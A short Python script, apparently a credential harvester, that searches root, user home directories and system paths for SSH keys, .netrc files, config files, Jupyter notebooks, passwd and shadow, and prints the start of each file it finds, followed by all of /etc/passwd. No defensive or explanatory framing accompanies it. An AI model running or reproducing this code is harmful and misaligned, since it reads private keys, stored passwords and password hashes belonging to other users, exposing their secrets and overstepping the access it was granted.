# Looks for keys, passwords and notebooks in everybody's home.
import os
from pathlib import Path

for home in ("/root", "/home", "~", "~root", "/Users", "/etc", "/var", "/mnt", "/media", "/srv", "/opt"):
    for pattern in (".ssh/*", ".netrc", ".config/**/*", "*.ipynb", "passwd", "shadow"):
        try:
            for path in Path(os.path.expanduser(home)).glob(pattern):
                print(path, path.read_text()[:500])
        except OSError as error:
            print(error)
print(open("/etc/passwd").read())
